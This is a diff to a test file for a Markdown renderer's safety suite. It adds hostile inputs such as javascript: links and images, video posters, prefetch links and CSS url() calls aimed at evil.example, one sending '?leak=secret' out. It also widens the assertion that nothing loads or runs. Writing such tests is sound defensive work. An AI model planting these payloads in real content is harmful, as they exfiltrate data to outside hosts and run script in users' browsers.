@@ -13,6 +13,10 @@ const hostile = [
   '[ref][r]\n\n[r]: javascript:alert(1)',
   '<a href="javascript:alert(1)">a</a>',
   '![i](javascript:alert(1))',
+  '![d](data:image/svg+xml;base64,PHN2Zy8+) ![p](//evil.example/p.png) ![b](blob:x)',
+  '![r][pic]\n\n[pic]: https://evil.example/p.png?leak=secret',
+  '<video poster="https://evil.example/p.png" src="x"></video><link rel="prefetch" href="https://evil.example">',
+  '<style>@import url(https://evil.example)</style><div style="background:url(https://evil.example)">x</div>',
   '<javascript:alert(1)>',
 ].join('\n\n');
 
@@ -23,7 +27,7 @@ describe('Markdown safety', () => {
     ['cut in the middle', hostile.slice(0, 40), true],
   ])('%s: loads and runs nothing', (_, text, open) => {
     const { container } = render(<Markdown text={text} open={open} />);
-    expect(container.querySelectorAll('img, script, iframe, svg:not(.lucide), object, embed, link, style, form')).toHaveLength(0);
+    expect(container.querySelectorAll('img, script, iframe, svg:not(.lucide), object, embed, link, style, form, video, audio, source, [style*=url], [srcset], [poster]')).toHaveLength(0);
     for (const element of container.querySelectorAll('*')) {
       for (const { name, value } of element.attributes) {
         expect(name).not.toMatch(/^on/);
